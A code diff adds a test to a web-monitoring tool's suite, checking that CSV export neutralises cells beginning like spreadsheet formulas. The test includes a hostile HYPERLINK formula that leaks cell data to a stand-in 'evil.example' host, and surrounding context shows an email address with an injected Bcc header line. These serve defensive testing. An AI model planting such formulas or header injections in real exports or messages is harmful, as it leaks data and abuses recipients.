@@ -104,6 +104,30 @@ def test_crawl_traps_stay_within_the_page_budget_and_the_articles_come_first(tmp
     assert {site.base + p for p in articles} <= stored
 
 
+def test_csv_cells_that_start_like_a_formula_are_exported_as_text(demo_db: Path) -> None:
+    """Text from the web that starts like a spreadsheet formula ("- " list items here; "=HYPERLINK(…)" from a hostile
+    page) gets a leading apostrophe in CSV, so a spreadsheet shows it rather than evaluates it; numbers and JSON stay
+    as stored."""
+    import csv
+    import io
+
+    from aipulse.cli import spreadsheet_safe
+
+    code, out, err = run_cli("--config", str(demo_db), "export", "--what", "mentions", "--format", "csv")
+    assert code == 0, err
+    table = list(csv.DictReader(io.StringIO(out)))
+    code, out, err = run_cli("--config", str(demo_db), "export", "--what", "mentions")
+    assert code == 0, err
+    stored = [json.loads(line) for line in out.splitlines()]
+    assert len(table) == len(stored) and sum(row["sentence"].startswith("- ") for row in stored) > 20
+    for cells, row in zip(table, stored, strict=True):
+        assert cells["sentence"] == ("'" if row["sentence"].startswith(("-", "=", "+", "@")) else "") + row["sentence"]
+        assert float(cells["score"]) == row["score"]  # "-0.86" is a number, left alone
+    assert spreadsheet_safe('=HYPERLINK("https://evil.example/?"&A1)') == '\'=HYPERLINK("https://evil.example/?"&A1)'
+    assert [spreadsheet_safe(v) for v in ("+1", "@SUM(A1)", "\tx", "Meta", -0.5, None)] == [
+        "'+1", "'@SUM(A1)", "'\tx", "Meta", -0.5, None]
+
+
 def test_addresses_that_could_inject_mail_headers_are_refused(tmp_path: Path) -> None:
     for line in ['to = ["analyst@example.org\\r\\nBcc: everyone@example.org"]',
                  'to = ["analyst@example.org, everyone@example.org"]',
